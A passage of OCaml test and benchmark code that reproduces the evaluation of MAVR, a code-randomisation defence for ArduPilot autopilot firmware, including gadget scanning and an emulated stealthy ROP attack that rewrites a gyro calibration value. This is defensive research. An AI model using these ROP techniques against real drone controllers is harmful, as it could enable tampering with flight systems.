  (* The paper's 11 bytes per millisecond at 115200 baud. *)
  let bpm = Serial.bytes_per_ms Serial.prototype in
  Alcotest.(check bool) "11-12 bytes/ms" true (bpm > 11.0 && bpm < 12.0)

let test_table2_numbers () =
  (* Table II: transfer-bound startup overhead from the MAVR code sizes. *)
  List.iter
    (fun (bytes, expected_ms) ->
      let ms = Serial.programming_ms Serial.prototype bytes in
      let err = Float.abs (ms -. expected_ms) /. expected_ms in
      if err > 0.01 then
        Alcotest.failf "%d bytes: %.0f ms, paper %.0f ms (%.1f%% off)" bytes ms expected_ms
          (100. *. err))
    [ (221294, 19209.0); (244292, 21206.0); (177556, 15412.0) ]

let test_production_estimate () =
  (* §VII-B1: on a mega-baud production PCB the bottleneck becomes the
     internal flash writes — a conservative 4 s for a full part. *)
  let ms = Serial.programming_ms Serial.production (256 * 1024) in
  Alcotest.(check bool) "about 4 seconds" true (ms > 3000.0 && ms < 5000.0);
  Alcotest.(check bool) "much faster than prototype" true
    (ms < Serial.programming_ms Serial.prototype (256 * 1024) /. 4.0)

let test_master_overhead_uses_link () =
  let m = fresh_master () in
  let app = Cpu.create () in
  Master.boot m ~app;
  let expected = Serial.programming_ms Serial.prototype (Image.size (Master.current_image m)) in
  Alcotest.(check (float 0.01)) "overhead recorded" expected (Master.last_overhead_ms m)

let () =
  Alcotest.run "master"
    [
      ( "provision-boot",
        [
          Alcotest.test_case "provision stores hex" `Quick test_provision_stores_hex;
          Alcotest.test_case "boot randomizes" `Quick test_boot_randomizes;
          Alcotest.test_case "boot schedule" `Quick test_boot_schedule;
          Alcotest.test_case "streaming stats" `Quick test_streaming_stats_exposed;
          Alcotest.test_case "unprovisioned boot fails" `Quick test_unprovisioned_boot_fails;
        ] );
      ( "watchdog",
        [
          Alcotest.test_case "halt detection" `Quick test_detects_halt_and_rerandomizes;
          Alcotest.test_case "no crashloop after recovery" `Quick test_no_crashloop_after_recovery;
          Alcotest.test_case "feed-silence detection" `Quick test_detects_feed_silence;
          Alcotest.test_case "healthy supervision" `Quick test_supervise_counts;
          Alcotest.test_case "supervised attack recovery" `Quick test_supervised_attack_recovery;
          Alcotest.test_case "events recorded" `Quick test_events_recorded;
        ] );
      ( "timing",
        [
          Alcotest.test_case "prototype throughput" `Quick test_prototype_throughput;
          Alcotest.test_case "Table II numbers" `Quick test_table2_numbers;
          Alcotest.test_case "production estimate" `Quick test_production_estimate;
          Alcotest.test_case "master overhead" `Quick test_master_overhead_uses_link;
        ] );
    ]
