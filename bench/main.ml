(* The evaluation harness: regenerates every table and figure of the
   paper's evaluation (§VII, plus the analytical artifacts of §V-D and
   §VIII-B), then runs Bechamel micro-benchmarks of this implementation.

     dune exec bench/main.exe -- [--quick] [--json PATH]

   --quick shrinks the emulator cycle budgets and skips the Bechamel
   micro-benchmarks (the CI smoke configuration); --json additionally
   writes the headline numbers as a machine-readable JSON document
   (committed as BENCH_PR<n>.json for cross-PR comparison). *)

module Cpu = Mavr_avr.Cpu
module Io = Mavr_avr.Device.Io
module Image = Mavr_obj.Image
module F = Mavr_firmware
module Rop = Mavr_core.Rop
module Gadget = Mavr_core.Gadget
module Randomize = Mavr_core.Randomize
module Serial = Mavr_core.Serial
module Security = Mavr_core.Security
module Nat = Mavr_bignum.Nat

module J = Mavr_telemetry.Json
module Clock = Mavr_campaign.Clock

let quick = ref false
let json_out : string option ref = ref None

(* Headline numbers accumulated by the sections below and emitted as the
   machine-readable result document when --json is given. *)
let results : (string * J.t) list ref = ref []
let put key v = results := (key, v) :: !results

let section title =
  Printf.printf "\n==================================================================\n";
  Printf.printf "%s\n" title;
  Printf.printf "==================================================================\n"

let builds =
  lazy
    (List.map
       (fun p ->
         let stock, mavr = F.Build.build_pair p in
         (p, stock, mavr))
       F.Profile.all)

let tiny = lazy (F.Build.build (F.Profile.tiny ~n:120 ~seed:99) F.Profile.mavr)

(* ---------------------------------------------------------------- *)

let fig1_memory_map () =
  section "Fig. 1 — ATmega2560 memory (emulated device profile)";
  let d = Mavr_avr.Device.atmega2560 in
  Printf.printf "  program flash : %6d KB (execute-only, word-addressed)\n" (d.flash_bytes / 1024);
  Printf.printf "  SRAM          : %6d KB at 0x%04x (registers+I/O mapped below)\n"
    (d.sram_bytes / 1024) d.sram_base;
  Printf.printf "  EEPROM        : %6d KB (separate address space)\n" (d.eeprom_bytes / 1024);
  Printf.printf "  PC width      : %d bytes pushed per call (22-bit PC)\n" d.pc_bytes;
  Printf.printf "  flash page    : %d B, endurance %d cycles\n" d.flash_page_bytes d.flash_endurance;
  Printf.printf "  MAVR BOM      : master $%.2f + ext. flash $%.2f = $%.2f (+%.1f%% of a $159.99 APM)\n"
    Mavr_avr.Device.atmega1284p.unit_price_usd Mavr_avr.Device.External_flash.unit_price_usd
    (Mavr_avr.Device.atmega1284p.unit_price_usd +. Mavr_avr.Device.External_flash.unit_price_usd)
    ((Mavr_avr.Device.atmega1284p.unit_price_usd +. Mavr_avr.Device.External_flash.unit_price_usd)
     /. 159.99 *. 100.)

let fig2_mavlink () =
  section "Fig. 2 — MAVLink packet structure (encode/decode check)";
  let f = { Mavr_mavlink.Frame.seq = 11; sysid = 1; compid = 1; msgid = 30;
            payload = String.make 28 '\x00' } in
  let wire = Mavr_mavlink.Frame.encode f in
  Printf.printf "  header %d B + payload %d B + checksum %d B = %d B on the wire\n"
    Mavr_mavlink.Frame.header_len (String.length f.payload) Mavr_mavlink.Frame.crc_len
    (String.length wire);
  Printf.printf "  magic 0x%02X, CRC-16/MCRF4XX with per-message CRC_EXTRA\n"
    (Char.code wire.[0]);
  Printf.printf "  minimum packet (9-byte payload): %d bytes (paper: 17)\n"
    (Mavr_mavlink.Frame.header_len + 9 + Mavr_mavlink.Frame.crc_len)

let table1 () =
  section "Table I — NUMBER OF FUNCTIONS";
  Printf.printf "  %-12s %12s %12s\n" "Application" "paper" "measured";
  let counts =
    List.map
      (fun ((p : F.Profile.t), stock, _) ->
        let n = F.Build.function_count stock in
        Printf.printf "  %-12s %12d %12d\n" p.name
          (match p.name with "Arduplane" -> 917 | "Arducopter" -> 1030 | _ -> 800)
          n;
        n)
      (Lazy.force builds)
  in
  let sorted = List.sort compare counts in
  let avg = float_of_int (List.fold_left ( + ) 0 counts) /. 3.0 in
  Printf.printf "  average %.2f (paper 915.67), median %d (paper 917)\n" avg (List.nth sorted 1);
  put "table1" (J.Obj [ ("avg_functions", J.Float avg); ("median_functions", J.Int (List.nth sorted 1)) ])

let table3 () =
  section "Table III — CHANGE IN CODE SIZE (stock vs MAVR toolchain)";
  Printf.printf "  %-12s %10s %10s %10s %10s\n" "Application" "stock(pap)" "stock(us)" "mavr(pap)"
    "mavr(us)";
  List.iter
    (fun ((p : F.Profile.t), stock, mavr) ->
      let pap_stock, pap_mavr =
        match p.name with
        | "Arduplane" -> (221608, 221294)
        | "Arducopter" -> (244532, 244292)
        | _ -> (177870, 177556)
      in
      Printf.printf "  %-12s %10d %10d %10d %10d   (Δ us: %+d B, %.3f%%)\n" p.name pap_stock
        (F.Build.code_size stock) pap_mavr (F.Build.code_size mavr)
        (F.Build.code_size mavr - F.Build.code_size stock)
        (100.0
        *. float_of_int (F.Build.code_size mavr - F.Build.code_size stock)
        /. float_of_int (F.Build.code_size stock)))
    (Lazy.force builds)

let table2 () =
  section "Table II — MAVR STARTUP OVERHEAD (randomize + reprogram)";
  Printf.printf "  %-12s %12s %14s\n" "Application" "paper (ms)" "modeled (ms)";
  List.iter
    (fun ((p : F.Profile.t), _, mavr) ->
      let paper = match p.name with
        | "Arduplane" -> 19209. | "Arducopter" -> 21206. | _ -> 15412. in
      Printf.printf "  %-12s %12.0f %14.0f\n" p.name paper
        (Serial.programming_ms Serial.prototype (F.Build.code_size mavr)))
    (Lazy.force builds);
  let sizes = List.map (fun (_, _, m) -> F.Build.code_size m) (Lazy.force builds) in
  let mss = List.map (fun s -> Serial.programming_ms Serial.prototype s) sizes in
  Printf.printf "  average %.0f ms (paper 18609), throughput %.2f B/ms (paper: 11)\n"
    (List.fold_left ( +. ) 0.0 mss /. 3.0)
    (Serial.bytes_per_ms Serial.prototype);
  put "table2"
    (J.Obj
       [ ("avg_startup_ms", J.Float (List.fold_left ( +. ) 0.0 mss /. 3.0));
         ("throughput_bytes_per_ms", J.Float (Serial.bytes_per_ms Serial.prototype)) ]);
  Printf.printf "  production estimate (mega-baud link, flash-write-bound): %.1f s for 256 KB (paper: ~4 s)\n"
    (Serial.programming_ms Serial.production (256 * 1024) /. 1000.0);
  (* §VI-B3: the randomizer streams function-by-function; its working set
     must fit the master's 16 KB SRAM. *)
  List.iter
    (fun ((p : F.Profile.t), _, mavr) ->
      let _, st = Mavr_core.Stream_patch.randomize_image ~seed:1 mavr.F.Build.image ~page_bytes:256 in
      Printf.printf "  streaming randomizer working set, %-11s: %5d B of the ATmega1284P's %d B SRAM\n"
        p.name st.Mavr_core.Stream_patch.peak_working_set
        Mavr_avr.Device.atmega1284p.sram_bytes)
    (Lazy.force builds)

let fig4_5_gadgets () =
  section "Figs. 4/5 + §VII-A — gadget discovery on the unprotected binary";
  let _, _, mavr = List.hd (Lazy.force builds) in
  List.iter
    (fun max_len ->
      let gs = Gadget.scan ~max_len mavr.F.Build.image in
      Printf.printf "  Arduplane, window <=%2d instructions: %5d gadgets (paper found 953)\n" max_len
        (List.length gs))
    [ 3; 5; 8 ];
  let gs = Gadget.scan mavr.F.Build.image in
  List.iter
    (fun (k, n) -> Printf.printf "    %-10s %5d\n" (Gadget.kind_name k) n)
    (Gadget.count_by_kind gs);
  (match Gadget.locate_paper_gadgets mavr.F.Build.image with
  | Some g ->
      Printf.printf "  stk_move gadget at 0x%05x (Fig. 4 shape):\n" g.stk_move;
      print_string (Mavr_avr.Disasm.listing ~pos:g.stk_move ~len:14 mavr.F.Build.image.Image.code);
      Printf.printf "  write_mem gadget at 0x%05x (Fig. 5 shape, head shown):\n" g.write_mem;
      print_string (Mavr_avr.Disasm.listing ~pos:g.write_mem ~len:12 mavr.F.Build.image.Image.code)
  | None -> print_endline "  !! paper gadgets not found");
  (* Ablation: the -mcall-prologues consolidation (stock) vs MAVR flags. *)
  let _, stock, _ = List.hd (Lazy.force builds) in
  let n_stock = List.length (Gadget.scan stock.F.Build.image) in
  let n_mavr = List.length gs in
  Printf.printf "  ablation (shared prologues): stock %d gadgets vs mavr-toolchain %d\n" n_stock n_mavr

let static_analysis () =
  section "Static analyzer — CFG recovery, image lint, gadget-survival census";
  Printf.printf "  %-12s %10s %9s %7s %6s %6s\n" "Application" "insns" "blocks" "cover" "lint" "lint-r";
  let lint_totals =
    List.map
      (fun ((p : F.Profile.t), _, mavr) ->
        let img = mavr.F.Build.image in
        let cfg = Mavr_analysis.Cfg.recover img in
        let s = Mavr_analysis.Cfg.stats cfg in
        let built = List.length (Mavr_analysis.Lint.run ~cfg img) in
        let randomized =
          List.length (Mavr_analysis.Lint.run (Randomize.randomize ~seed:7 img))
        in
        Printf.printf "  %-12s %10d %9d %6.1f%% %6d %6d\n" p.name s.reachable_insns s.blocks
          s.coverage_pct built randomized;
        (p.name, s, built, randomized))
      (Lazy.force builds)
  in
  let layouts = if !quick then 3 else 10 in
  let _, _, arduplane = List.hd (Lazy.force builds) in
  let c = Mavr_analysis.Survival.census ~layouts arduplane.F.Build.image in
  Format.printf "  Arduplane %a@." Mavr_analysis.Survival.pp c;
  Printf.printf "  (paper §VII-A: all harvested gadget addresses die under re-randomization)\n";
  put "static_analysis"
    (J.Obj
       (List.map
          (fun (name, (s : Mavr_analysis.Cfg.stats), built, randomized) ->
            ( String.lowercase_ascii name,
              J.Obj
                [
                  ("coverage_pct", J.Float s.coverage_pct);
                  ("reachable_insns", J.Int s.reachable_insns);
                  ("lint_findings", J.Int built);
                  ("lint_findings_randomized", J.Int randomized);
                ] ))
          lint_totals
       @ [
           ("census_layouts", J.Int c.layouts);
           ("census_base_gadgets", J.Int c.base_gadgets);
           ("census_mean_survival_rate", J.Float c.mean_survival_rate);
           ("census_feasible_layouts", J.Int c.feasible_layouts);
         ]))

let boot image =
  let cpu = Cpu.create () in
  Cpu.load_program cpu image.Image.code;
  Cpu.io_poke cpu Io.gyro_lo 0x34;
  Cpu.io_poke cpu Io.gyro_hi 0x12;
  ignore (Cpu.run_until_halt cpu ~max_cycles:60_000);
  cpu

let gyro_cfg cpu =
  Cpu.data_peek cpu F.Layout.gyro_cfg lor (Cpu.data_peek cpu (F.Layout.gyro_cfg + 1) lsl 8)

let fig6 () =
  section "Fig. 6 — stack progression during the stealthy attack";
  let b = Lazy.force tiny in
  let ti = Rop.analyze b in
  let obs = Rop.observe ti in
  let cpu = boot b.image in
  let dump label =
    Format.printf "%a" Mavr_avr.Trace.pp_snapshot
      (Mavr_avr.Trace.snapshot cpu ~label ~window_start:(obs.s0 - 12) ~window_len:16)
  in
  dump "(i) clean stack before payload execution";
  List.iter (Cpu.uart_send cpu)
    (Rop.v2_stealthy ti obs ~writes:[ Rop.write_u16 obs ~addr:F.Layout.gyro_cfg ~value:0xBEEF ~neighbour:0 ]);
  (match
     Cpu.run_until cpu ~max_cycles:3_000_000 (fun c ->
         Cpu.pc_byte_addr c = ti.gadgets.Gadget.stk_move
         && Cpu.data_peek c (obs.s0 - 5) <> Char.code obs.saved_bytes.[0])
   with
  | `Pred -> dump "(ii) dirty stack after payload injection"
  | _ -> print_endline "  !! injection not observed");
  (match
     Cpu.run_until cpu ~max_cycles:10_000 (fun c ->
         Cpu.sp c >= ti.stage_addr && Cpu.sp c < ti.stage_addr + 256)
   with
  | `Pred ->
      Printf.printf "(iii) after gadget 1 (stk_move): SP pivoted to 0x%04x (staging buffer)\n"
        (Cpu.sp cpu)
  | _ -> print_endline "  !! pivot not observed");
  (match Cpu.run_until cpu ~max_cycles:3_000_000 (fun c -> gyro_cfg c = 0xBEEF) with
  | `Pred -> Printf.printf "(iv) after payload execution: gyro calibration = 0x%04x\n" (gyro_cfg cpu)
  | _ -> print_endline "  !! write not observed");
  let byte i = Char.code obs.saved_bytes.[i] in
  let ret_target = ((byte 3 lsl 16) lor (byte 4 lsl 8) lor byte 5) * 2 in
  (match Cpu.run_until cpu ~max_cycles:3_000_000 (fun c -> Cpu.pc_byte_addr c = ret_target) with
  | `Pred -> dump "(v)-(vii) repaired stack for continued execution"
  | _ -> print_endline "  !! repair not observed");
  match Cpu.run cpu ~max_cycles:1_000_000 with
  | `Budget_exhausted -> print_endline "  -> board continues normal execution (clean return)"
  | `Halted h -> Format.printf "  !! board halted: %a@." Cpu.pp_halt h

let effectiveness () =
  section "§VII-A — effectiveness of the MAVR defense";
  let b = Lazy.force tiny in
  let ti = Rop.analyze b in
  let obs = Rop.observe ti in
  let attack =
    Rop.v2_stealthy ti obs
      ~writes:[ Rop.write_u16 obs ~addr:F.Layout.gyro_cfg ~value:0x4141 ~neighbour:0 ]
  in
  let outcome image =
    let cpu = boot image in
    List.iter (Cpu.uart_send cpu) attack;
    let r = Cpu.run cpu ~max_cycles:2_500_000 in
    if gyro_cfg cpu = 0x4141 then `Success
    else match r with `Halted _ -> `Crashed | `Budget_exhausted -> `Silent
  in
  (match outcome b.image with
  | `Success -> print_endline "  unprotected binary: attack SUCCEEDS (stealthy takeover)"
  | _ -> print_endline "  unprotected binary: unexpected failure!");
  let seeds = if !quick then 8 else 40 in
  let succ = ref 0 and crash = ref 0 and silent = ref 0 in
  for seed = 1 to seeds do
    match outcome (Randomize.randomize ~seed b.image) with
    | `Success -> incr succ
    | `Crashed -> incr crash
    | `Silent -> incr silent
  done;
  Printf.printf "  randomized binaries (%d seeds): %d succeeded, %d crashed (detected+reflashed), %d failed silently\n"
    seeds !succ !crash !silent;
  put "effectiveness"
    (J.Obj
       [ ("seeds", J.Int seeds); ("succeeded", J.Int !succ); ("crashed", J.Int !crash);
         ("silent", J.Int !silent) ]);
  Printf.printf "  (paper: none of the attacks succeeded; the board executed garbage and was reflashed)\n";
  (* Recovery: a wrong guess with the master watching. *)
  let m = Mavr_core.Master.create () in
  Mavr_core.Master.provision m b.image;
  let app = Cpu.create () in
  Mavr_core.Master.boot m ~app;
  ignore (Cpu.run app ~max_cycles:60_000);
  List.iter (Cpu.uart_send app) (Rop.crash_probe ti);
  let detections = Mavr_core.Master.supervise m ~app ~cycles:2_000_000 in
  Printf.printf "  failed-probe supervision: %d detection(s), app %s after re-randomization\n"
    detections
    (if Cpu.halted app = None && Cpu.watchdog_feeds app > 0 then "recovered" else "DEAD")

let bruteforce_and_entropy () =
  section "§V-D + §VIII-B — brute-force effort and entropy";
  Printf.printf "  closed forms (validated by Monte Carlo, 20k trials):\n";
  List.iter
    (fun n ->
      let static = Nat.to_string (Security.expected_attempts_static ~n) in
      let rerand = Nat.to_string (Security.expected_attempts_rerandomizing ~n) in
      let mc_s = Security.monte_carlo_static ~n ~trials:20_000 ~seed:5 in
      let mc_r = Security.monte_carlo_rerandomizing ~n ~trials:20_000 ~seed:5 in
      Printf.printf "    n=%2d  static E=(n!+1)/2=%8s (MC %8.1f)   MAVR E=n!=%8s (MC %8.1f)\n" n
        static mc_s rerand mc_r)
    [ 3; 4; 5; 6 ];
  Printf.printf "  entropy of the layout secret (paper: 800 symbols -> 6567 bits):\n";
  List.iter
    (fun (name, n) ->
      Printf.printf "    %-11s n=%4d  log2(n!) = %7.0f bits   E[attempts] is a %d-digit number\n"
        name n (Security.entropy_bits ~n)
        (Nat.digits (Security.expected_attempts_rerandomizing ~n)))
    [ ("Ardurover", 800); ("Arduplane", 917); ("Arducopter", 1030) ]

let randomization_frequency () =
  section "§V-C — randomization frequency vs. flash endurance";
  let endurance = Mavr_avr.Device.atmega2560.flash_endurance in
  Printf.printf "  endurance %d program cycles; 10 boots/day fleet duty cycle\n" endurance;
  Printf.printf "  %-22s %18s %22s %16s\n" "policy" "reflashes/boot" "lifetime (years)" "layout staleness";
  List.iter
    (fun k ->
      let policy = { Mavr_core.Lifetime.randomize_every_boots = k } in
      List.iter
        (fun rate ->
          Printf.printf "  every %3d boots @%4.2f atk %12.3f %22.1f %13d boots\n" k rate
            (Mavr_core.Lifetime.reflashes_per_boot policy ~attack_rate_per_boot:rate)
            (Mavr_core.Lifetime.years_until_wearout policy ~endurance ~attack_rate_per_boot:rate
               ~boots_per_day:10.0)
            (Mavr_core.Lifetime.layout_exposure_boots policy))
        [ 0.0; 0.05 ])
    [ 1; 5; 20; 100 ];
  Printf.printf "  (every-boot randomization costs the 10k-cycle part in ~2.7 years of daily duty;\n";
  Printf.printf "   every-20-boots keeps a layout live for 20 boots but stretches wear-out ~20x — the §V-C trade-off.)\n"

let runtime_defense_ablation () =
  section "§IX ablation — MAVR vs runtime-monitoring defenses (DROP/ROPdefender class)";
  let b = Lazy.force tiny in
  let loop_cycles overhead =
    let cpu = Cpu.create () in
    Cpu.load_program cpu b.F.Build.image.Image.code;
    if overhead > 0 then Cpu.enable_shadow_stack cpu ~overhead_cycles:overhead;
    ignore (Cpu.run cpu ~max_cycles:60_000);
    let f0 = Cpu.watchdog_feeds cpu and c0 = Cpu.cycles cpu in
    ignore (Cpu.run cpu ~max_cycles:600_000);
    float_of_int (Cpu.cycles cpu - c0) /. float_of_int (Cpu.watchdog_feeds cpu - f0)
  in
  let base = loop_cycles 0 in
  Printf.printf "  main-loop cost, no runtime defense : %8.0f cycles/iteration\n" base;
  List.iter
    (fun ov ->
      let c = loop_cycles ov in
      Printf.printf "  shadow stack, %2d cyc per call/ret : %8.0f cycles/iteration (+%.1f%%)\n" ov c
        (100.0 *. (c -. base) /. base))
    [ 4; 8; 16 ];
  (* The paper's argument: ArduPlane already runs at ~96% CPU; any added
     per-iteration cost breaks the control deadlines, while MAVR's runtime
     overhead is exactly zero. *)
  let headroom = 4.0 in
  let c8 = loop_cycles 8 in
  Printf.printf "  at 96%% load the deadline headroom is %.0f%%: a +%.1f%% monitor %s\n" headroom
    (100.0 *. (c8 -. base) /. base)
    (if 100.0 *. (c8 -. base) /. base > headroom then "MISSES control deadlines"
     else "still fits");
  Printf.printf "  (the monitor does detect the stealthy ROP instantly — but MAVR detects-and-recovers at zero runtime cost)\n";
  (* §VIII-B padding design point. *)
  let base_e = Security.entropy_bits ~n:800 in
  let padded = Security.entropy_bits_with_padding ~n:800 ~slack_bytes:4096 in
  Printf.printf "  §VIII-B padding option: 800 symbols + 4 KB random padding = %.0f bits (vs %.0f without) — permutation already dominates\n"
    padded base_e

let randomizability () =
  section "§VI-B1 — toolchain requirements (ablation)";
  let _, stock, mavr = List.hd (Lazy.force builds) in
  (match Mavr_core.Patch.check_randomizable stock.F.Build.image with
  | Error m ->
      Printf.printf "  stock toolchain (relaxation ON) : REFUSED — %s...\n"
        (String.sub m 0 (min 70 (String.length m)))
  | Ok () -> print_endline "  stock toolchain: unexpectedly randomizable");
  match Mavr_core.Patch.check_randomizable mavr.F.Build.image with
  | Ok () -> print_endline "  MAVR toolchain (--no-relax)     : randomizable"
  | Error m -> Printf.printf "  MAVR toolchain: !! %s\n" m

(* ---------------------------------------------------------------- *)
(* Predecode-cache before/after: the emulator throughput that every
   §VII replay and per-lifetime randomization sweep is bounded by.     *)

let decode_cache_bench () =
  section "Decode cache — emulator instructions/second (ArduPlane-profile firmware)";
  let _, _, arduplane = List.hd (Lazy.force builds) in
  let image = arduplane.F.Build.image in
  let prep ~cache =
    let cpu = Cpu.create () in
    Cpu.set_decode_cache cpu cache;
    (* These rows measure per-instruction dispatch; the superblock engine
       (benched in its own section) would fuse it away. *)
    Cpu.set_superblocks cpu false;
    Cpu.load_program cpu image.Image.code;
    (* Warm up past startup (and, cached, past the first-touch decodes). *)
    ignore (Cpu.run_until_halt cpu ~max_cycles:200_000);
    if Cpu.halted cpu <> None then Cpu.reset cpu;
    cpu
  in
  (* The application image eventually faults (that is the point of the
     paper's recovery loop), so measure across lifetimes: reset on halt
     and keep retiring instructions until the cycle budget is spent.
     Reset does not touch flash, so the cached path keeps its decodes. *)
  let budget = if !quick then 2_000_000 else 20_000_000 in
  (* Throughput must come from the wall clock: [Sys.time] is process CPU
     time, which keeps (single-threaded) benchmarks honest by accident but
     sums across domains — a parallel speedup would read as a slowdown. *)
  let measure cpu run_slice =
    let retired, span =
      Clock.time (fun () ->
          let spent = ref 0 in
          let retired = ref 0 in
          while !spent < budget do
            let c0 = Cpu.cycles cpu and r0 = Cpu.instructions_retired cpu in
            run_slice cpu (budget - !spent);
            spent := !spent + max 1 (Cpu.cycles cpu - c0);
            retired := !retired + (Cpu.instructions_retired cpu - r0);
            if Cpu.halted cpu <> None then Cpu.reset cpu
          done;
          !retired)
    in
    (Clock.rate (float_of_int retired) span, span)
  in
  let batched cpu max_cycles = ignore (Cpu.run_until_halt cpu ~max_cycles) in
  (* The pre-cache dispatch: a driver loop around [Cpu.step], decoding
     every instruction from flash and re-checking the halt state per
     step — what [Sim.Scenario]/[Master.supervise] did before the
     batched API existed. *)
  let per_step cpu max_cycles =
    let stop = Cpu.cycles cpu + max_cycles in
    while Cpu.halted cpu = None && Cpu.cycles cpu < stop do
      Cpu.step cpu
    done
  in
  let legacy, legacy_span = measure (prep ~cache:false) per_step in
  let uncached, uncached_span = measure (prep ~cache:false) batched in
  let cached, cached_span = measure (prep ~cache:true) batched in
  let wall_s = legacy_span.Clock.wall_s +. uncached_span.Clock.wall_s +. cached_span.Clock.wall_s in
  let cpu_s = legacy_span.Clock.cpu_s +. uncached_span.Clock.cpu_s +. cached_span.Clock.cpu_s in
  Printf.printf "  before: per-step loop, decode per instruction : %12.0f insn/s\n" legacy;
  Printf.printf "  batched run, decode per instruction           : %12.0f insn/s\n" uncached;
  Printf.printf "  after:  batched run + predecode cache         : %12.0f insn/s\n" cached;
  Printf.printf "  speedup (after / before)                      : %12.2fx %s\n"
    (cached /. legacy)
    (if cached /. legacy >= 2.0 then "(>= 2x target met)" else "(!! below 2x target)");
  (* The cycle counts feed the paper's §VII overhead numbers: the cached
     and uncached paths must agree bit-for-bit on architectural state. *)
  let arch cache =
    let cpu = Cpu.create () in
    Cpu.set_decode_cache cpu cache;
    Cpu.load_program cpu image.Image.code;
    ignore (Cpu.run_until_halt cpu ~max_cycles:2_000_000);
    ( Cpu.pc cpu, Cpu.sp cpu, Cpu.sreg cpu, Cpu.cycles cpu, Cpu.instructions_retired cpu,
      Cpu.halted cpu, List.init 32 (Cpu.reg cpu) )
  in
  let identical = arch true = arch false in
  Printf.printf "  cached/uncached architectural state identical: %b\n" identical;
  put "decode_cache"
    (J.Obj
       [ ("legacy_insn_per_s", J.Float legacy);
         ("batched_uncached_insn_per_s", J.Float uncached);
         ("cached_insn_per_s", J.Float cached);
         ("speedup", J.Float (cached /. legacy));
         ("arch_state_identical", J.Bool identical);
         ("wall_s", J.Float wall_s);
         ("cpu_s", J.Float cpu_s) ])

(* ---------------------------------------------------------------- *)
(* PR-6: the superblock threaded-code engine on top of the predecode
   cache — fused superinstruction blocks with per-block cycle/interrupt
   accounting.  The "off" row is exactly the PR-5 cached configuration,
   so the speedup reported here is against the decode_cache baseline the
   check gates reference. *)

let superblock_bench () =
  section "Superblock engine — emulator instructions/second (ArduPlane-profile firmware)";
  let _, _, arduplane = List.hd (Lazy.force builds) in
  let image = arduplane.F.Build.image in
  let budget = if !quick then 2_000_000 else 20_000_000 in
  let prep ?(cache = true) ~superblocks ~precompiled () =
    let cpu = Cpu.create () in
    Cpu.set_decode_cache cpu cache;
    Cpu.set_superblocks cpu superblocks;
    Cpu.load_program cpu image.Image.code;
    let compiled =
      if precompiled then
        Cpu.precompile cpu
          (Mavr_analysis.Cfg.block_start_words (Mavr_analysis.Cfg.recover image))
      else 0
    in
    ignore (Cpu.run_until_halt cpu ~max_cycles:200_000);
    if Cpu.halted cpu <> None then Cpu.reset cpu;
    (cpu, compiled)
  in
  let measure run_slice cpu =
    let retired, span =
      Clock.time (fun () ->
          let spent = ref 0 and retired = ref 0 in
          while !spent < budget do
            let c0 = Cpu.cycles cpu and r0 = Cpu.instructions_retired cpu in
            run_slice cpu (budget - !spent);
            spent := !spent + max 1 (Cpu.cycles cpu - c0);
            retired := !retired + (Cpu.instructions_retired cpu - r0);
            if Cpu.halted cpu <> None then Cpu.reset cpu
          done;
          !retired)
    in
    (Clock.rate (float_of_int retired) span, span)
  in
  let batched cpu max_cycles = ignore (Cpu.run_until_halt cpu ~max_cycles) in
  (* The pre-PR-5 dispatch, re-measured in-run so the headline speedup is
     not a cross-run comparison: a driver loop around [Cpu.step], full
     decode per instruction (the decode_cache section's "before" row). *)
  let per_step cpu max_cycles =
    let stop = Cpu.cycles cpu + max_cycles in
    while Cpu.halted cpu = None && Cpu.cycles cpu < stop do
      Cpu.step cpu
    done
  in
  let legacy, legacy_span =
    measure per_step (fst (prep ~cache:false ~superblocks:false ~precompiled:false ()))
  in
  let off, off_span = measure batched (fst (prep ~superblocks:false ~precompiled:false ())) in
  let on, on_span = measure batched (fst (prep ~superblocks:true ~precompiled:false ())) in
  let pre_cpu, compiled = prep ~superblocks:true ~precompiled:true () in
  let pre, pre_span = measure batched pre_cpu in
  Printf.printf "  legacy: per-step loop, decode per instruction  : %12.0f insn/s\n" legacy;
  Printf.printf "  off: batched run + predecode cache (PR-5 row)  : %12.0f insn/s\n" off;
  Printf.printf "  on:  superblocks, lazily compiled              : %12.0f insn/s\n" on;
  Printf.printf "  on:  superblocks, %5d CFG blocks precompiled : %12.0f insn/s\n" compiled pre;
  Printf.printf "  speedup (superblocks / per-step legacy)        : %12.2fx\n" (on /. legacy);
  Printf.printf "  speedup (superblocks / cached stepping)        : %12.2fx\n" (on /. off);
  (* The equivalence contract, re-checked in the measured configuration:
     run both engines to the same budget, single-step the laggard onto a
     common cycle count (budget overshoot differs by at most one block),
     and compare full architectural state. *)
  let mk superblocks =
    let cpu = Cpu.create () in
    Cpu.set_superblocks cpu superblocks;
    Cpu.load_program cpu image.Image.code;
    ignore (Cpu.run_until_halt cpu ~max_cycles:2_000_000);
    cpu
  in
  let fused = mk true and stepped = mk false in
  let rec align fuel =
    let cf = Cpu.cycles fused and cs = Cpu.cycles stepped in
    if cf = cs || fuel = 0 then ()
    else if cf < cs && Cpu.halted fused = None then (Cpu.step fused; align (fuel - 1))
    else if cs < cf && Cpu.halted stepped = None then (Cpu.step stepped; align (fuel - 1))
    else ()
  in
  align 10_000;
  let arch cpu =
    ( Cpu.pc cpu, Cpu.sp cpu, Cpu.sreg cpu, Cpu.cycles cpu, Cpu.instructions_retired cpu,
      Cpu.interrupts_taken cpu, Cpu.watchdog_feeds cpu, Cpu.halted cpu,
      List.init 32 (Cpu.reg cpu) )
  in
  let identical = arch fused = arch stepped in
  Printf.printf "  on/off architectural state identical           : %b\n" identical;
  put "superblock"
    (J.Obj
       [ ("legacy_insn_per_s", J.Float legacy);
         ("off_insn_per_s", J.Float off);
         ("on_insn_per_s", J.Float on);
         ("precompiled_insn_per_s", J.Float pre);
         ("blocks_precompiled", J.Int compiled);
         ("speedup_vs_step", J.Float (on /. legacy));
         ("speedup_vs_cached", J.Float (on /. off));
         ("arch_state_identical", J.Bool identical);
         ("wall_s",
          J.Float
            (legacy_span.Clock.wall_s +. off_span.Clock.wall_s +. on_span.Clock.wall_s
            +. pre_span.Clock.wall_s));
         ("cpu_s",
          J.Float
            (legacy_span.Clock.cpu_s +. off_span.Clock.cpu_s +. on_span.Clock.cpu_s
            +. pre_span.Clock.cpu_s)) ])

(* ---------------------------------------------------------------- *)
(* The PR-2 overhead contract: with no probes attached the CPU hot path
   pays a single flag test per instruction (disabled throughput must stay
   within 3% of the PR-1 cached figure); the full probe bundle moves all
   its cost onto the enabled path, and this section measures the price. *)

let telemetry_overhead_bench () =
  section "Telemetry overhead — CPU probes disabled vs enabled (cached batched run)";
